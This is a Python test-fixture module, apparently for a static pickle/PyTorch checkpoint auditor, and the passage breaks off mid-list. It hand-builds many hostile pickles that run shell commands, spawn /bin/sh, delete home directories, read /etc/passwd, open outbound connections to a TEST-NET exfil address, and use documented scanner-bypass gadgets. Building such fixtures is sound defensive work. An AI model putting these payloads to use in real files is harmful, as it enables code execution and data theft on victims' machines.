"""Catalogue of hostile (and benign look-alike) checkpoint / pickle inputs.

This module is test data for ``ckptaudit``, a *static* auditor of PyTorch
checkpoints and pickle files.  It deliberately has no dependency on
``ckptaudit`` so the fixtures can be reviewed and wired in independently.
Its pickles and containers are assembled with ``support.opcodes`` and
``support.containers``, which import only the standard library.

Safety rules (enforced by ``tests/checks/test_hostile_cases_selfcheck.py``):

* Nothing here ever unpickles anything.  Hostile pickles are assembled by hand
  from opcode bytes; only *benign* objects are produced with ``pickle.dumps``.
* None of the modules a payload references (``pty``, ``webbrowser``, ``pydoc``,
  ``torch`` ...) is imported while building the catalogue.
* Payload commands are inert placeholders (``id``, ``touch /tmp/...``), network
  targets are RFC 5737 TEST-NET addresses or ``.invalid`` hosts.

Vocabulary used by the case records:

``dangerous_global``
    The global exactly as a disassembler sees it: ``module + "." + name`` of a
    ``GLOBAL``/``INST``/``STACK_GLOBAL`` reference (``"posix.system"``,
    ``"bdb.Bdb.run"``, ``"posixpath.os.system"``).  ``None`` means the callable
    cannot be named from literals alone (it is computed at load time); the
    auditor must still report the file as dangerous.
``resolved_target``
    What that reference really reaches at load time when it differs from the
    literal (alias modules, attribute traversal, memo tricks, nested payloads).
``streams`` / ``broken_streams``
    Pickle byte streams embedded verbatim in ``data``.  Every entry of
    ``streams`` disassembles with :func:`pickletools.dis`; every entry of
    ``broken_streams`` is intentionally malformed and must *not* disassemble
    (the hostile effect happens before the point of failure).

``expect`` for benign look-alikes: ``"compatible"`` means loadable by
``torch.load(weights_only=True)`` with the default allow-list of torch >= 2.6;
``"incompatible"`` means benign but needs ``weights_only=False`` or an explicit
``add_safe_globals`` entry.  The hard contract is only "never dangerous".
"""

from __future__ import annotations

import argparse
import collections
import dataclasses
import datetime
import decimal
import functools
import marshal
import pathlib
import pickle
import random
import re
import sys
import types
import uuid
import zlib
import zoneinfo
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Literal

import numpy as np
from support.containers import (
    LEGACY_MAGIC,
    ZipMember,
    build_7z,
    build_zip,
    legacy_file,
    torch_zip,
    torch_zip_members,
)
from support.opcodes import (
    Literal_,
    Raw,
    binget,
    binpersid,
    binput,
    call,
    empty_dict,
    empty_list,
    empty_tuple,
    ext1,
    ext2,
    ext4,
    get,
    global_,
    inst,
    int_,
    lit,
    long_binget,
    long_binput,
    mark,
    memoize,
    newfalse,
    newobj,
    newobj_ex,
    none,
    obj,
    pop,
    proto,
    put,
    reduce,
    ref,
    setitem,
    short_unicode,
    simple,
    stack_global,
    stop,
    string0,
    text_unicode,
    tuple_,
    tuple_n,
    unicode,
    wrap,
)

__all__ = [
    "AMBIGUOUS",
    "BENIGN_LOOKALIKES",
    "CASES",
    "NEVER_IMPORT_MODULES",
    "AmbiguousCase",
    "BenignCase",
    "HostileCase",
]


# ---------------------------------------------------------------------------
# Reusable pickles
# ---------------------------------------------------------------------------

CMD = "id"
SRC = "__import__('os').system('id')"
CANARY_PATH = "/tmp/ckptaudit-canary"


def benign_state_dict_pkl(top_key: str = "weight") -> bytes:
    """``{'weight': FloatTensor[4]}`` exactly as torch writes it (protocol 2, persistent id)."""
    storage_pid = (
        mark()
        + unicode("storage")
        + global_("torch", "FloatStorage")
        + unicode("0")
        + unicode("cpu")
        + int_(4)
        + tuple_()
        + binpersid()
    )
    rebuild_args = (
        mark()
        + storage_pid
        + int_(0)
        + lit((4,))
        + lit((1,))
        + newfalse()
        + call(global_("collections", "OrderedDict"), [])
        + tuple_()
    )
    body = (
        empty_dict()
        + unicode(top_key)
        + global_("torch._utils", "_rebuild_tensor_v2")
        + rebuild_args
        + reduce()
        + setitem()
    )
    return wrap(body, 2)


def benign_legacy_obj_pkl() -> bytes:
    """Legacy-format object pickle: ``{'weight': tensor}`` with a 6-tuple persistent id."""
    pid = (
        mark()
        + unicode("storage")
        + global_("torch", "FloatStorage")
        + unicode("0")
        + unicode("cpu")
        + int_(4)
        + none()
        + tuple_()
        + binpersid()
    )
    rebuild = (
        global_("torch._utils", "_rebuild_tensor_v2")
        + mark()
        + pid
        + int_(0)
        + lit((4,))
        + lit((1,))
    )
    rebuild += newfalse() + call(global_("collections", "OrderedDict"), []) + tuple_() + reduce()
    return wrap(empty_dict() + unicode("weight") + rebuild + setitem(), 2)


BENIGN_PKL = benign_state_dict_pkl()
OS_SYSTEM_P2 = simple("posix", "system", [CMD], 2)
OS_SYSTEM_P0 = wrap(call(global_("os", "system"), [CMD], 0), 0)
EVAL_P2 = simple("builtins", "eval", [SRC], 2)
INNER_PAYLOAD = b"cposix\nsystem\n(Vid\ntR."


def broken_after_payload(protocol: int = 2) -> bytes:
    """nullifAI shape: a REDUCE of posix.system, then garbage instead of STOP."""
    head = proto(protocol) if protocol >= 2 else b""
    return head + call(global_("posix", "system"), [CMD], protocol) + b"\xff\xfe\x00garbage-no-stop"


# ---------------------------------------------------------------------------
# Case records
# ---------------------------------------------------------------------------

Group = Literal["direct", "opcode", "indirect", "container", "advisory"]


@dataclass(frozen=True)
class HostileCase:
    """A file that a static auditor must never report as safe."""

    name: str
    description: str
    data: bytes
    filename: str
    expect: Literal["dangerous", "error"]
    dangerous_global: str | None
    reference: str
    group: Group = "direct"
    container: str = "pickle"
    resolved_target: str | None = None
    streams: tuple[bytes, ...] = ()
    broken_streams: tuple[bytes, ...] = ()


@dataclass(frozen=True)
class BenignCase:
    """A benign file whose opcodes look risky; never ``dangerous``."""

    name: str
    description: str
    data: bytes
    filename: str
    expect: Literal["compatible", "incompatible"]
    reference: str = "technique: benign look-alike"
    streams: tuple[bytes, ...] = ()


@dataclass(frozen=True)
class AmbiguousCase:
    """Files where a reasonable static verdict is debatable; see ``reasoning``."""

    name: str
    description: str
    data: bytes
    filename: str
    recommended: Literal["dangerous", "incompatible", "compatible"]
    reasoning: str
    streams: tuple[bytes, ...] = ()


_CASES: list[HostileCase] = []


def _add(
    name: str,
    description: str,
    data: bytes,
    *,
    dangerous_global: str | None,
    reference: str,
    group: Group,
    filename: str = "model.pkl",
    expect: Literal["dangerous", "error"] = "dangerous",
    container: str = "pickle",
    resolved_target: str | None = None,
    streams: Sequence[bytes] | None = None,
    broken_streams: Sequence[bytes] = (),
) -> None:
    if streams is None:
        streams = () if broken_streams else (data,)
    _CASES.append(
        HostileCase(
            name=name,
            description=description,
            data=data,
            filename=filename,
            expect=expect,
            dangerous_global=dangerous_global,
            reference=reference,
            group=group,
            container=container,
            resolved_target=resolved_target,
            streams=tuple(streams),
            broken_streams=tuple(broken_streams),
        )
    )


def _simple_case(
    name: str,
    module: str,
    attr: str,
    args: Sequence[Literal_],
    description: str,
    reference: str,
    *,
    protocol: int = 2,
    group: Group = "direct",
    filename: str = "model.pkl",
    resolved_target: str | None = None,
) -> None:
    _add(
        name,
        description,
        simple(module, attr, args, protocol),
        dangerous_global=f"{module}.{attr}",
        reference=reference,
        group=group,
        filename=filename,
        resolved_target=resolved_target,
    )


def _method_case(
    name: str,
    module: str,
    cls: str,
    method: str,
    args: Sequence[Literal_],
    description: str,
    reference: str,
    *,
    group: Group = "direct",
) -> None:
    """``module.cls().method(*args)`` via a protocol-4 dotted STACK_GLOBAL."""
    instance = call(ref(module, cls, 4) + memoize(), [], 4)
    body = call(ref(module, f"{cls}.{method}", 4), [Raw(instance), *args], 4)
    _add(
        name,
        description,
        wrap(body, 4),
        dangerous_global=f"{module}.{cls}.{method}",
        reference=reference,
        group=group,
    )


# --- group: direct dangerous callables ------------------------------------

_add(
    "os_system_p0_global",
    "Classic protocol-0 GLOBAL os.system + REDUCE, as written by hand in most PoCs.",
    OS_SYSTEM_P0,
    dangerous_global="os.system",
    reference="technique: pickle __reduce__ RCE (Python pickle docs warning)",
    group="direct",
)
_add(
    "posix_system_p2",
    "What pickle.dumps emits for os.system on Linux: GLOBAL 'posix system'.",
    OS_SYSTEM_P2,
    dangerous_global="posix.system",
    reference="technique: platform alias module (picklescan blocklists posix/nt explicitly)",
    group="direct",
    resolved_target="os.system",
)
_simple_case(
    "nt_system_p2",
    "nt",
    "system",
    ["cmd.exe /c whoami"],
    "Windows alias of os.system; must be flagged even when the scanner runs on Linux.",
    "technique: platform alias module",
    resolved_target="os.system",
)
_simple_case(
    "builtin_eval_py2_name",
    "__builtin__",
    "eval",
    [SRC],
    "Python-2 module name __builtin__ is mapped to builtins by _compat_pickle (protocol < 3).",
    "technique: fix_imports mapping; modelaudit PR #241 (__builtin__ variants)",
    resolved_target="builtins.eval",
)
_simple_case(
    "builtins_exec_p4",
    "builtins",
    "exec",
    [SRC],
    "builtins.exec through protocol-4 STACK_GLOBAL inside a FRAME.",
    "technique: STACK_GLOBAL (PEP 3154, protocol 4)",
    protocol=4,
)
_add(
    "builtins_import_getattr_chain",
    "getattr(__import__('os'), 'system')('id'): two 'generic' builtins, no os.system literal.",
    wrap(
        call(
            call(
                global_("builtins", "getattr"),
                [Raw(call(global_("builtins", "__import__"), ["os"])), "system"],
            ),
            [CMD],
        ),
        2,
    ),
    dangerous_global="builtins.__import__",
    reference=(
        "technique: picklescan blocklist comment "
        '\'operator.attrgetter("system")(__import__("os"))\''
    ),
    group="direct",
    resolved_target="os.system",
)
_add(
    "builtins_compile_functiontype",
    "compile() a source string, wrap it with types.FunctionType and call it; no eval/exec global.",
    wrap(
        call(
            call(
                global_("types", "FunctionType"),
                [Raw(call(global_("builtins", "compile"), [SRC, "<ckpt>", "exec"])), {}],
            ),
            [],
        ),
        2,
    ),
    dangerous_global="builtins.compile",
    reference="technique: code object construction; picklescan blocklists builtins.compile",
    group="direct",
)
_simple_case(
    "builtins_open_truncate",
    "builtins",
    "open",
    ["/home/user/.bashrc", "w"],
    "open(path, 'w') truncates a file as a side effect of unpickling.",
    "technique: file clobbering; picklescan blocklists builtins.open",
)
_simple_case(
    "subprocess_popen",
    "subprocess",
    "Popen",
    [["sh", "-c", CMD]],
    "subprocess.Popen with an argv list.",
    "technique: picklescan blocklist 'subprocess': '*'",
)
_simple_case(
    "subprocess_check_output_p4",
    "subprocess",
    "check_output",
    [["id"]],
    "subprocess.check_output via STACK_GLOBAL (protocol 4).",
    "technique: picklescan blocklist 'subprocess': '*'",
    protocol=4,
)
_simple_case(
    "subprocess_run_p3",
    "subprocess",
    "run",
    [["sh", "-c", CMD]],
    "subprocess.run at protocol 3.",
    "technique: picklescan blocklist 'subprocess': '*'",
    protocol=3,
)
_simple_case(
    "runpy_run_code",
    "runpy",
    "_run_code",
    [SRC, {}],
    "runpy._run_code(source, globals) is exec() under another name.",
    "technique: picklescan blocklist 'runpy' (Includes runpy._run_code)",
)
_simple_case(
    "importlib_import_module_side_effect",
    "importlib",
    "import_module",
    ["antigravity"],
    "import_module of a module whose import has side effects (antigravity opens a browser).",
    "technique: import-time side effects; picklescan issue #66 (importlib bypass class)",
)
_add(
    "pickle_loads_nested_bytes",
    "pickle.loads(<literal bytes>) whose inner pickle calls posix.system; scanners must recurse.",
    wrap(call(global_("pickle", "loads"), [INNER_PAYLOAD], 3), 3),
    dangerous_global="pickle.loads",
    reference="GHSA-84r2-jw7c-4r5q (picklescan nested pickle); modelscan issue #267",
    group="direct",
    resolved_target="posix.system",
    streams=None,
)
_CASES[-1] = dataclasses.replace(_CASES[-1], streams=(_CASES[-1].data, INNER_PAYLOAD))
_add(
    "_pickle_loads_codecs_encode",
    "_pickle.loads(_codecs.encode(<str>, 'latin1')): the nested pickle hides inside a text string.",
    wrap(call(global_("_pickle", "loads"), [INNER_PAYLOAD]), 2),
    dangerous_global="_pickle.loads",
    reference="picklescan PR #25 (Mark pickle module as dangerous, _pickle variant)",
    group="direct",
    resolved_target="posix.system",
)
_CASES[-1] = dataclasses.replace(_CASES[-1], streams=(_CASES[-1].data, INNER_PAYLOAD))
_add(
    "torch_load_partial_weights_only_false",
    "functools.partial(torch.serialization.load, 'other.bin', weights_only=False)() via NEWOBJ_EX.",
    wrap(
        ref("functools", "partial", 4)
        + lit((Raw(ref("torch.serialization", "load", 4)), "some_other_model.bin"), 4)
        + lit({"weights_only": False}, 4)
        + newobj_ex()
        + empty_tuple()
        + reduce(),
        4,
    ),
    dangerous_global="torch.serialization.load",
    reference="picklescan Malicious19 (Sonatype, 2025-03): torch.load chained from a pickle",
    group="direct",
)
_simple_case(
    "numpy_load_allow_pickle",
    "numpy",
    "load",
    ["payload.npy", None, True],
    "numpy.load(file, mmap_mode=None, allow_pickle=True) loads a second, unscanned pickle.",
    "technique: loader chaining (picklescan TODO list: numpy.load)",
)
_simple_case(
    "dill_loads",
    "dill._dill",
    "loads",
    [INNER_PAYLOAD],
    "dill.loads on literal bytes (dill pickles as dill._dill).",
    "technique: loader chaining (dill)",
    protocol=3,
)
_simple_case(
    "joblib_load",
    "joblib.numpy_pickle",
    "load",
    ["model.joblib"],
    "joblib.load (defined in joblib.numpy_pickle) loads another pickle from disk.",
    "technique: loader chaining (picklescan TODO list: joblib.load)",
)
_simple_case(
    "webbrowser_open",
    "webbrowser",
    "open",
    ["http://198.51.100.7/beacon"],
    "webbrowser.open can launch arbitrary handlers / beacon out.",
    "technique: picklescan blocklist 'webbrowser'",
)
_simple_case(
    "shutil_rmtree",
    "shutil",
    "rmtree",
    ["/home/user"],
    "Destructive file-system call.",
    "technique: picklescan/modelscan blocklist 'shutil' (PR #198)",
)
_simple_case(
    "socket_create_connection",
    "socket",
    "create_connection",
    [("198.51.100.7", 4444)],
    "Outbound connection at load time (reverse-shell first step).",
    "technique: fickling issue #16 (socket unsafe import)",
)
_simple_case(
    "timeit_timeit",
    "timeit",
    "timeit",
    [SRC],
    "timeit.timeit(stmt) compiles and runs stmt.",
    "GHSA-v7x6-rv5q-mhwc (picklescan timeit.timeit)",
)
_add(
    "pty_spawn_obj_p1",
    "pty.spawn('/bin/sh') via the protocol-1 OBJ opcode (MARK callable args OBJ).",
    mark() + global_("pty", "spawn") + text_unicode("/bin/sh") + obj() + stop(),
    dangerous_global="pty.spawn",
    reference="fickling PR #108 (pty.spawn via OBJ not detected)",
    group="opcode",
)
_method_case(
    "code_interactiveinterpreter_runsource",
    "code",
    "InteractiveInterpreter",
    "runsource",
    [SRC],
    "code.InteractiveInterpreter().runsource(src) compiles and executes src.",
    "picklescan PR #48 (code.InteractiveInterpreter.runcode advisory family)",
)
_simple_case(
    "ctypes_cdll",
    "ctypes",
    "CDLL",
    ["/tmp/payload.so"],
    "ctypes.CDLL loads a shared object, running its constructors.",
    "technique: picklescan blocklist 'ctypes'",
)
_simple_case(
    "pydoc_pipepager",
    "pydoc",
    "pipepager",
    ["", CMD],
    "pydoc.pipepager(text, cmd) spawns cmd through a shell.",
    "picklescan Malicious18 (Sonatype, 2025-03)",
)
_method_case(
    "bdb_bdb_run",
    "bdb",
    "Bdb",
    "run",
    [SRC],
    "bdb.Bdb().run(src) exec()s src under the debugger.",
    "technique: picklescan PR #29 / modelscan PR #198 (debuggers run code)",
)
_simple_case(
    "cprofile_run",
    "cProfile",
    "run",
    [SRC],
    "cProfile.run(src) exec()s src.",
    "GHSA-49gj-c84q-6qm9 (picklescan cProfile.run)",
)
_method_case(
    "trace_trace_run",
    "trace",
    "Trace",
    "run",
    [SRC],
    "trace.Trace().run(src) exec()s src.",
    "GHSA-5qwp-399c-mjwf (picklescan trace.Trace.run)",
)
_add(
    "asyncio_run_subprocess_shell",
    "asyncio.run(asyncio.subprocess.create_subprocess_shell('id')): "
    "coroutine built and driven at load.",
    wrap(
        call(
            global_("asyncio", "run"),
            [Raw(call(global_("asyncio.subprocess", "create_subprocess_shell"), [CMD]))],
        ),
        2,
    ),
    dangerous_global="asyncio.subprocess.create_subprocess_shell",
    reference="technique: picklescan PR #30 / modelscan PR #203 (asyncio as malicious)",
    group="direct",
)
_simple_case(
    "torch_cpp_extension_load_inline",
    "torch.utils.cpp_extension",
    "load_inline",
    ["ext", 'int x = system("id");'],
    "Compiles and dlopen()s C++ source; allow-listing torch.* is not enough.",
    "technique: framework gadget inside an allow-listed package",
)
_add(
    "operator_attrgetter_import",
    "operator.attrgetter('system')(__import__('os'))('id').",
    wrap(
        call(
            call(
                call(global_("operator", "attrgetter"), ["system"]),
                [Raw(call(global_("builtins", "__import__"), ["os"]))],
            ),
            [CMD],
        ),
        2,
    ),
    dangerous_global="operator.attrgetter",
    reference="GHSA-m273-6v24-x4m4 (operator gadgets, per fickling PR #210); modelscan PR #70",
    group="direct",
    resolved_target="os.system",
)
_add(
    "operator_methodcaller_on_module_attr",
    "_operator.methodcaller('system','id') applied to posixpath.os (module "
    "reached as an attribute).",
    wrap(
        call(
            call(global_("_operator", "methodcaller"), ["system", CMD]),
            [Raw(global_("posixpath", "os"))],
        ),
        2,
    ),
    dangerous_global="_operator.methodcaller",
    reference="GHSA-955r-x9j8-7rhh / GHSA-46h3-79wf-xr6c (picklescan _operator)",
    group="direct",
    resolved_target="os.system",
)
_add(
    "functools_partial_called",
    "functools.partial(posix.system, 'id') built with REDUCE, then called with an empty tuple.",
    wrap(
        call(call(global_("functools", "partial"), [Raw(global_("posix", "system")), CMD]), []), 2
    ),
    dangerous_global="posix.system",
    reference="picklescan Malicious19/PR #37 (functools.partial wrapper)",
    group="direct",
    resolved_target="os.system",
)
_CODE = compile(SRC, "<ckpt>", "exec")  # compiled only, never executed
_CODETYPE_ARGS: list[Literal_] = [
    _CODE.co_argcount,
    _CODE.co_posonlyargcount,
    _CODE.co_kwonlyargcount,
    _CODE.co_nlocals,
    _CODE.co_stacksize,
    _CODE.co_flags,
    _CODE.co_code,
    tuple(_CODE.co_consts),
    _CODE.co_names,
    _CODE.co_varnames,
    _CODE.co_filename,
    _CODE.co_name,
]
if sys.version_info >= (3, 11):  # constructor layout changed in 3.11 (qualname, exceptiontable)
    _CODETYPE_ARGS += [
        _CODE.co_qualname,
        _CODE.co_firstlineno,
        _CODE.co_linetable,
        _CODE.co_exceptiontable,
    ]
else:  # pragma: no cover - Python 3.10
    _CODETYPE_ARGS += [_CODE.co_firstlineno, _CODE.co_linetable]
_CODETYPE_ARGS += [_CODE.co_freevars, _CODE.co_cellvars]
_add(
    "types_codetype_functiontype",
    "types.CodeType(<field layout of the running Python>) -> types.FunctionType(code, {}) -> call. "
    "Bytecode is Python-version specific, the danger is not.",
    wrap(
        call(
            call(
                global_("types", "FunctionType"),
                [Raw(call(global_("types", "CodeType"), _CODETYPE_ARGS, 3)), {}],
                3,
            ),
            [],
            3,
        ),
        3,
    ),
    dangerous_global="types.CodeType",
    reference="GHSA-9m3x-qqw2-h32h (picklescan types.CodeType / cloudpickle)",
    group="direct",
)
_add(
    "copyreg_reconstructor_popen_base",
    "copyreg._reconstructor(Popen, Popen, ['sh','-c','id']) runs Popen.__init__(obj, state).",
    wrap(
        call(
            global_("copyreg", "_reconstructor"),
            [
                Raw(global_("subprocess", "Popen")),
                Raw(global_("subprocess", "Popen")),
                ["sh", "-c", CMD],
            ],
        ),
        2,
    ),
    dangerous_global="subprocess.Popen",
    reference="technique: copyreg._reconstructor calls base.__init__ when base is not object",
    group="direct",
)
_simple_case(
    "pip_main_install",
    "pip",
    "main",
    [["install", "--quiet", "ckptaudit-evil-package-invalid"]],
    "pip.main(['install', ...]) pulls and runs a package at load time.",
    "CVE-2025-1716 / GHSA-655q-fx9r-782v (picklescan: pip not an unsafe global)",
    group="advisory",
)
_simple_case(
    "ensurepip_run_pip",
    "ensurepip",
    "_run_pip",
    [["install", "ckptaudit-evil-package-invalid"]],
    "ensurepip._run_pip runs pip with attacker arguments.",
    "GHSA-xp4f-hrf8-rxw7 (picklescan ensurepip._run_pip)",
    group="advisory",
)
_simple_case(
    "profile_run",
    "profile",
    "run",
    [SRC],
    "profile.run(src) exec()s src (pure-Python twin of cProfile).",
    "GHSA-7wx9-6375-f5wh (picklescan profile.run)",
    group="advisory",
)
_simple_case(
    "cprofile_runctx",
    "cProfile",
    "runctx",
    [SRC, {}, {}],
    "cProfile.runctx(src, globals, locals).",
    "GHSA-9w88-8rmg-7g2p (picklescan cProfile.runctx)",
    group="advisory",
)
_simple_case(
    "doctest_debug_script",
    "doctest",
    "debug_script",
    [SRC],
    "doctest.debug_script(src) runs src under pdb.",
    "GHSA-fqq6-7vqf-w3fg (picklescan doctest.debug_script)",
    group="advisory",
)
_simple_case(
    "pkgutil_resolve_name_universal",
    "pkgutil",
    "resolve_name",
    ["os:system"],
    "pkgutil.resolve_name('os:system') returns any callable: a universal blocklist bypass.",
    "GHSA-vvpj-8cmc-gx39 (picklescan pkgutil.resolve_name)",
    group="advisory",
    resolved_target="os.system",
)
_simple_case(
    "uuid_get_command_stdout",
    "uuid",
    "_get_command_stdout",
    [CMD],
    "uuid._get_command_stdout runs a command via subprocess (while uuid.UUID is benign).",
    "GHSA-g38g-8gr9-h9xp (picklescan stdlib bypasses; CVE-2026-56315 per aithreatalert)",
    group="advisory",
)
_simple_case(
    "imaplib_imap4_stream",
    "imaplib",
    "IMAP4_stream",
    [CMD],
    "imaplib.IMAP4_stream(command) spawns the command with shell=True in __init__.",
    "GHSA-g38g-8gr9-h9xp (picklescan stdlib bypasses)",
    group="advisory",
)
_simple_case(
    "logging_filehandler_create_file",
    "logging",
    "FileHandler",
    [CANARY_PATH],
    "logging.FileHandler(path) creates/opens an arbitrary file on construction.",
    "GHSA-m7j5-r2p5-c39r (picklescan logging.FileHandler)",
    group="advisory",
)
_simple_case(
    "io_fileio_read",
    "_io",
    "FileIO",
    ["/etc/passwd"],
    "io.FileIO is pickled as _io.FileIO; opens files while builtins.open is blocked.",
    "GHSA-9726-w42j-3qjr (picklescan _io.FileIO)",
    group="advisory",
)
_simple_case(
    "urllib_request_urlopen",
    "urllib.request",
    "urlopen",
    ["http://198.51.100.7/exfil"],
    "SSRF / exfiltration at load time.",
    "GHSA-9726-w42j-3qjr (picklescan urllib.request.urlopen)",
    group="advisory",
)
_simple_case(
    "ssl_get_server_certificate_dns",
    "ssl",
    "get_server_certificate",
    [("exfil.ckptaudit.invalid", 443)],
    "DNS/TLS exfiltration via ssl.get_server_certificate.",
    "picklescan PR #40 (ssl) / GHSA-hgrh-qx5j-jfwx (network modules)",
    group="advisory",
)
_simple_case(
    "mailcap_findmatch",
    "mailcap",
    "findmatch",
    [{"text/plain": [{"view": "cat %s", "test": CMD}]}, "text/plain"],
    "mailcap.findmatch runs the entry's 'test' command through os.system.",
    "modelscan PR #346 (mailcap.findmatch)",
    group="advisory",
)
_method_case(
    "lib2to3_grammar_loads_nested",
    "lib2to3.pgen2.grammar",
    "Grammar",
    "loads",
    [INNER_PAYLOAD],
    "Grammar().loads(pkl) is a hidden pickle.loads on literal bytes.",
    "GHSA-f54q-57x4-jg88 (picklescan lib2to3 Grammar.loads)",
    group="advisory",
)
_CASES[-1] = dataclasses.replace(_CASES[-1], streams=(_CASES[-1].data, INNER_PAYLOAD))
_simple_case(
    "numpy_testing_runstring",
    "numpy.testing._private.utils",
    "runstring",
    [SRC, {}],
    "numpy.testing runstring() is exec() inside an otherwise allow-listed package.",
    "picklescan PR #40 (numpy.testing._private.utils)",
    group="advisory",
)
_simple_case(
    "torch_inductor_compile_file",
    "torch._inductor.codecache",
    "compile_file",
    ["", "", ["sh", "-c", CMD]],
    "torch._inductor.codecache.compile_file runs an arbitrary compiler command line.",
    "picklescan Malicious17 (Sonatype, 2025-03)",
    group="advisory",
)
_simple_case(
    "torch_bottleneck_run_autograd_prof",
    "torch.utils.bottleneck.__main__",
    "run_autograd_prof",
    [SRC, {}],
    "torch.utils.bottleneck.__main__.run_autograd_prof exec()s its code argument.",
    "GHSA-4whj-rm5r-c2v8 (picklescan torch bottleneck)",
    group="advisory",
)
_simple_case(
    "venv_create_prompt",
    "venv",
    "create",
    ["venv", False, False, True, True, "$(id)"],
    "venv.create(with_pip=True) spawns ensurepip; the $(...) prompt lands in activate scripts.",
    "picklescan Malicious20 (Sonatype, 2025-03) / GHSA-vqmv-47xg-9wpr",
    group="advisory",
)
_add(
    "xxsubinterpreters_run_string",
    "_xxsubinterpreters.run_string(_xxsubinterpreters.create(), src): exec in a sub-interpreter.",
    wrap(
        call(
            global_("_xxsubinterpreters", "run_string"),
            [Raw(call(global_("_xxsubinterpreters", "create"), [])), SRC],
        ),
        2,
    ),
    dangerous_global="_xxsubinterpreters.run_string",
    reference="fickling GHSA-6ggj-6f2q-f7mx (private stdlib _interpreters modules)",
    group="advisory",
)
_simple_case(
    "asyncio_unix_events_submodule",
    "asyncio.unix_events",
    "_UnixSubprocessTransport._start",
    [None, ["sh", "-c", CMD], True, None, None, None, 0],
    "A *submodule* of a blocklisted package (exact-module matching misses it).",
    "CVE-2025-10157 (JFrog) / GHSA-q77w-mwjj-7mqx (picklescan asyncio.unix_events)",
    protocol=4,
    group="advisory",
)

# Advisory PoCs that call an unbound method with a dummy ``self`` (as the
# reports did) or a plain function; the scanner only has to name the global.
_ADVISORY_GADGETS: list[tuple[str, str, str, list[Literal_], str, str]] = [
    (
        "trace_trace_runctx",
        "trace",
        "Trace.runctx",
        [{}, SRC, {}, {}],
        "trace.Trace.runctx exec()s a source string.",
        "GHSA-g344-hcph-8vgg (picklescan trace.Trace.runctx)",
    ),
    (
        "profile_profile_run",
        "profile",
        "Profile.run",
        [{}, SRC],
        "profile.Profile.run exec()s a source string.",
        "GHSA-x696-vm39-cp64 (picklescan profile.Profile.run)",
    ),
    (
        "profile_profile_runctx",
        "profile",
        "Profile.runctx",
        [{}, SRC, {}, {}],
        "profile.Profile.runctx exec()s a source string.",
        "GHSA-6vqj-c2q5-j97w (picklescan profile.Profile.runctx)",
    ),
    (
        "idlelib_objecttreeitem_settext",
        "idlelib.debugobj",
        "ObjectTreeItem.SetText",
        [{}, SRC],
        "IDLE debugger tree item eval()s the new text.",
        "GHSA-3vg9-h568-4w9m (picklescan idlelib ObjectTreeItem.SetText)",
    ),
    (
        "idlelib_autocomplete_get_entity",
        "idlelib.autocomplete",
        "AutoComplete.get_entity",
        [{}, SRC],
        "IDLE autocomplete eval()s an expression.",
        "GHSA-6w4w-5w54-rjvr (picklescan idlelib AutoComplete.get_entity)",
    ),
    (
        "idlelib_autocomplete_fetch_completions",
        "idlelib.autocomplete",
        "AutoComplete.fetch_completions",
        [{}, SRC, 1],
        "IDLE autocomplete eval()s the expression it completes.",
        "GHSA-7cq8-mj8x-j263 (picklescan idlelib AutoComplete.fetch_completions)",
    ),
    (
        "idlelib_calltip_fetch_tip",
        "idlelib.calltip",
        "Calltip.fetch_tip",
        [{}, SRC],
        "IDLE calltip eval()s an expression.",
        "GHSA-8r4j-24qv-fmq9 (picklescan idlelib Calltip.fetch_tip)",
    ),
    (
        "idlelib_calltip_get_entity",
        "idlelib.calltip",
        "get_entity",
        [SRC],
        "Module-level idlelib.calltip.get_entity eval()s an expression.",
        "GHSA-9xph-j2h6-g47v (picklescan idlelib calltip.get_entity)",
    ),
    (
        "idlelib_executive_runcode",
        "idlelib.run",
        "Executive.runcode",
        [{}, SRC],
        "IDLE subprocess executive exec()s code.",
        "GHSA-m869-42cg-3xwr (picklescan idlelib Executive.runcode)",
    ),
    (
        "idlelib_modifiedinterpreter_runcommand",
        "idlelib.pyshell",
        "ModifiedInterpreter.runcommand",
        [{}, SRC],
        "IDLE shell interpreter runs a command.",
        "GHSA-j343-8v2j-ff7w (picklescan idlelib ModifiedInterpreter.runcommand)",
    ),
    (
        "idlelib_modifiedinterpreter_runcode",
        "idlelib.pyshell",
        "ModifiedInterpreter.runcode",
        [{}, SRC],
        "IDLE shell interpreter runs code.",
        "GHSA-3gf5-cxq9-w223 (picklescan idlelib ModifiedInterpreter.runcode)",
    ),
    (
        "lib2to3_parsergenerator_make_label",
        "lib2to3.pgen2.pgen",
        "ParserGenerator.make_label",
        [None, {}, '""+' + SRC],
        "lib2to3 parser generator eval()s a grammar label.",
        "GHSA-p9w7-82w4-7q8m (picklescan lib2to3 ParserGenerator.make_label)",
    ),
    (
        "numpy_f2py_getlincoef",
        "numpy.f2py.crackfortran",
        "getlincoef",
        [SRC, []],
        "numpy.f2py.crackfortran.getlincoef eval()s its expression argument.",
        "GHSA-r8g5-cgf2-4m4m (picklescan numpy.f2py)",
    ),
    (
        "osx_support_read_output",
        "_osx_support",
        "_read_output",
        [CMD],
        "_osx_support._read_output runs a shell command via os.system.",
        "GHSA-g38g-8gr9-h9xp (picklescan _osx_support)",
    ),
    (
        "aix_support_read_cmd_output",
        "_aix_support",
        "_read_cmd_output",
        [CMD],
        "_aix_support._read_cmd_output runs a shell command.",
        "GHSA-g38g-8gr9-h9xp (picklescan _aix_support)",
    ),
    (
        "test_support_assert_python_ok",
        "test.support.script_helper",
        "assert_python_ok",
        ["-c", SRC],
        "CPython's test helper spawns a Python subprocess with arbitrary code.",
        "GHSA-g38g-8gr9-h9xp (picklescan 'test' module)",
    ),
    (
        "torch_dynamo_guardbuilder_get",
        "torch._dynamo.guards",
        "GuardBuilder.get",
        [{}, SRC],
        "torch._dynamo GuardBuilder.get eval()s a guard expression.",
        "picklescan PR #47 (Missing detection when calling PyTorch functions)",
    ),
    (
        "torch_fx_shapeenv_evaluate_guards_expression",
        "torch.fx.experimental.symbolic_shapes",
        "ShapeEnv.evaluate_guards_expression",
        [{}, SRC, []],
        "ShapeEnv.evaluate_guards_expression eval()s a code string.",
        "picklescan PR #47 (Missing detection when calling PyTorch functions)",
    ),
    (
        "torch_jit_execwrapper",
        "torch.jit.unsupported_tensor_ops",
        "execWrapper",
        [SRC, {}, {}],
        "torch.jit.unsupported_tensor_ops.execWrapper is exec().",
        "picklescan PR #47 (Missing detection when calling PyTorch functions)",
    ),
    (
        "torch_config_module_load_config_nested",
        "torch.utils._config_module",
        "ConfigModule.load_config",
        [{}, INNER_PAYLOAD],
        "ConfigModule.load_config unpickles its bytes argument (pickle in a pickle).",
